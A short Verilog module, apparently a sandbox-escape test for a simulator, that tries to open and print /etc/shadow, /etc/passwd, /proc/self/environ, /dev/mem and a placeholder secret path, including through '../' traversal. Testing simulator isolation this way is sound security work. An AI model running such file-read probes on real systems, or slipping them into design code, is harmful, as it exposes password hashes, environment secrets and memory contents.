module top;
  integer file, code;
  reg [8*200:1] line;
  reg [7:0] bytes [0:99];
  task try(input [8*200:1] path);
    begin
      file = $fopen(path, "r");
      if (file == 0) $display("no %0s", path);
      else begin
        code = $fgets(line, file);
        $display("READ %0s: %0s", path, line);
      end
    end
  endtask
  initial begin
    try("@SECRET@");
    try("../../../../../../../../@SECRET@");
    try("/etc/shadow");
    try("/etc/passwd");
    try("/proc/self/environ");
    try("/proc/1/root/etc/passwd");
    try("/dev/shm");
    try("/dev/mem");
    $readmemh("@SECRET@", bytes);
    $display("BYTES %h", bytes[0]);
    $finish;
  end
endmodule
